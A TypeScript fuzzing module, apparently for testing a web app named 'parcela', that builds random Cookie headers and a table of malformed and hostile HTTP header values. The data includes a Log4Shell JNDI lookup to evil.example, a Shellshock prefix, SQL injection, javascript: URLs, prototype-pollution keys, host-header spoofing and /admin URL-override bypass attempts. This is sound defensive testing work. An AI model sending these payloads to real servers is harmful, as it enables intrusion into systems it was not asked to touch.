import { type Dice, encoded, NASTY } from './words.ts'

/** Contents of the toast cookie, valid and not. */
const TOASTS =
  `{} [] 1 "x" null {"title":1,"tone":"ok"} {"title":"x","tone":"ok","text":{}} {"title":{},"tone":{}}
  {"title":"x","tone":"ok","link":1} {"title":"x","tone":"ok","link":{"label":{},"to":{}}} {"__proto__":{}}
  {"title":"x","tone":"error","link":{"label":"x","to":"javascript:alert(1)"}} {"title":"x","tone":"ok","link":null}
  {"title":"x","tone":"ok","link":{"to":null}}`.split(/\s+/)
const COOKIES =
  `parcela_toast parcela_theme parcela.session_token parcela.session_data parcela_applied parcela_step
  parcela_device __proto__ parcela.second_step`.split(/\s+/)

/** A Cookie header with random values. */
export function cookies(die: Dice): string {
  return Array.from({ length: 1 + die.below(3) }, () => {
    const toast = Buffer.from(die.pick(TOASTS)).toString('base64')
    const value = die.odds(0.6) ? encodeURIComponent(toast) : encoded(die.pick(NASTY).slice(0, 500))
    return `${die.odds(0.4) ? 'parcela_toast' : die.pick(COOKIES)}=${value}`
  }).join('; ')
}

/** Values of headers that programs interpret; each may also be empty or long. */
export const HEADERS: Readonly<Record<string, readonly string[]>> = Object.fromEntries(
  `
Accept: */* | text/html | application/json | text/event-stream, text/html | q=;; | text/html;q=NaN
Accept-Encoding: br | gzip | identity;q=0 | *;q=0 | br;q=x | ,,,
Accept-Language: pl | * | ;;q=
Range: bytes=0-0 | bytes=-1 | bytes=5-1 | bytes=a-b | items=0-1 | bytes=0-1,3-4,999999999999-
If-None-Match: * | "" | W/"x" | " | ,,
If-Modified-Since: Thu, 99 Foo 9999 99:99:99 GMT | 0 | -1
If-Range: "x" | x
X-Forwarded-For: 1.1.1.1 | ::1 | unknown | ,,,, | 1.1.1.1, 2.2.2.2 | ' or 1=1 | 999.999.999.999
X-Forwarded-Proto: https | javascript | http, https
X-Forwarded-Host: evil.example | evil.example:99999
Forwarded: for=1.1.1.1;host=evil.example;proto=https | ;;;
X-Original-URL: /admin | /admin/users
X-Rewrite-URL: /admin
X-HTTP-Method-Override: DELETE | PUT | x
X-Request-Id: x | "}{ | ../../x
User-Agent: Googlebot | () { :;}; echo | \${jndi:ldap://evil.example/a}
Sec-Fetch-Site: none | cross-site | same-site | SAME-ORIGIN
Sec-Fetch-Dest: document | script
Origin: null | https://evil.example | http:// | //
Referer: x | javascript:alert(1) | http://[
Host: evil.example | localhost:99999 | a b | [::1 | 127.0.0.1@evil.example
Authorization: Basic Og== | Bearer x | Digest
TE: trailers | chunked
Upgrade: websocket | h2c
X-Remix-Response: yes
X-React-Router-SPA-Mode: yes
Purpose: prefetch`
    .trim()
    .split('\n')
    .map((line) => {
      const [name = '', values = ''] = line.split(/: (.*)/)
      return [name, [...values.split(' | '), '', 'x'.repeat(1000)]]
    }),
)
